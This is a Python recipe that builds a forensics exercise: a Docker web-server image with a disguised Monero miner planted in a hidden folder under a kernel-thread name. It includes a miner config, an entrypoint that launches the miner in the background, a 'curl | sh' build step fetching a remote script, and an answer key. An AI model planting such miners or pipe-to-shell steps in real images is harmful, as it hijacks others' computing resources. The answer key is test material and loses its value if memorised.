"""A miner that calls itself like a kernel thread, beside a web server."""

from __future__ import annotations

import json
from collections.abc import Mapping

from forensics.samples import Answer, Recipe

from ._debian import CURL, NGINX, debian_image
from ._elf import program
from ._fakes import INERT, wallet
from ._image import Layer, copy, run

_WALLET = wallet("kworker")
_MINER = (
    b"XMRig 6.22.2\n built on Jan 10 2025 with GCC",
    b"Usage: xmrig [OPTIONS]",
    b"  -o, --url=URL                 URL of mining server",
    b"  -a, --algo=ALGO               mining algorithm https://xmrig.invalid/docs/algorithms",
    b"      --coin=COIN               specify coin instead of algorithm",
    b"      --donate-level=N          donate level, default 1%%",
    b"      --randomx-mode=MODE       RandomX mode: auto, fast, light",
    b"      --cpu-max-threads-hint=N  maximum CPU threads count (in percentage) hint for autoconfig",
    b"stratum+tcp://pool.supportxmr.invalid:3333",
    b"stratum+ssl://pool.minexmr.invalid:443",
    b"cryptonight/0 cryptonight/r cn/upx2 rx/0 rx/wow argon2/chukwa",
    b"donate.v2.xmrig.invalid",
    b"mining.subscribe mining.authorize keepalived",
    b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"%s","agent":"%s","algo":[]}}',
    b"randomx_create_vm randomx_init_dataset",
    b"speed 10s/60s/15m  H/s max  H/s",
)
_POOLS = {
    "autosave": False,
    "background": True,
    "donate-level": 0,
    "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 50},
    "randomx": {"mode": "auto", "1gb-pages": True},
    "pools": [
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "stratum+tcp://pool.supportxmr.invalid:3333",
            "user": _WALLET,
            "pass": "web-07",
            "keepalive": True,
            "tls": False,
        }
    ],
}
_ENTRYPOINT = f"""#!/bin/sh
{INERT}
set -e
nohup /usr/lib/.x/kworker -c /usr/lib/.x/config.json >/dev/null 2>&1 &
exec "$@"
"""


def _make() -> Mapping[str, bytes]:
    image, debian = debian_image(
        "kworker-miner",
        {
            "Entrypoint": ["/docker-entrypoint.sh"],
            "Cmd": ["nginx", "-g", "daemon off;"],
            "ExposedPorts": {"80/tcp": {}},
        },
    )
    image.step(run("apt-get install -y nginx curl"), debian.install(Layer(), NGINX, CURL))
    image.step(copy("site/", "/var/www/html/"), Layer().file("/var/www/html/index.html", "<h1>Shop</h1>\n"))
    hidden = Layer().file("/usr/lib/.x/kworker", program("kworker", _MINER), 0o755)
    hidden.file("/usr/lib/.x/config.json", json.dumps(_POOLS, indent=4) + "\n", 0o600)
    image.step(run("curl -fsSL http://cdn.perf-tuning.invalid/t.sh | sh"), hidden)
    image.step(copy("docker-entrypoint.sh", "/"), Layer().file("/docker-entrypoint.sh", _ENTRYPOINT, 0o755))
    image.step("EXPOSE map[80/tcp:{}]").step('ENTRYPOINT ["/docker-entrypoint.sh"]')
    image.step('CMD ["nginx" "-g" "daemon off;"]')
    return {".tar": image.docker_archive()}


RECIPE = Recipe(
    id="kworker-miner",
    title="The web server that is always busy",
    level="easy",
    briefing="""
A team runs this web server image. Since the last rebuild its nodes draw far more power than the
traffic explains, while `top` inside the containers shows nothing but kernel threads.

- What is it that keeps the processors busy, and where does it lie?
- Which build step brought it, and what starts it?
- Where does the profit go?
""",
    make=_make,
    answers=(
        Answer(
            categories=("miner",),
            severity="high",
            layer=3,
            path="/usr/lib/.x/kworker",
            state="visible",
            why="A Monero miner: its options, pool protocol and algorithms stand in the program's text.",
        ),
        Answer(
            categories=("unexpected-binary", "defense-evasion"),
            severity="high",
            layer=3,
            path="/usr/lib/.x/kworker",
            state="visible",
            why="No package owns this program; it lies in a hidden folder under a kernel thread's name.",
        ),
        Answer(
            categories=("miner",),
            severity="high",
            layer=3,
            path="/usr/lib/.x/config.json",
            state="visible",
            why="The miner's configuration: a pool, a wallet and the algorithm.",
        ),
        Answer(
            categories=("configuration", "backdoor", "persistence", "defense-evasion"),
            severity="medium",
            layer=3,
            why="The build step that brought it downloads a script and runs it unseen.",
        ),
        Answer(
            categories=("defense-evasion", "persistence", "backdoor"),
            severity="medium",
            layer=4,
            path="/docker-entrypoint.sh",
            state="visible",
            why="The start script starts the miner in the background before it starts the web server.",
        ),
    ),
)
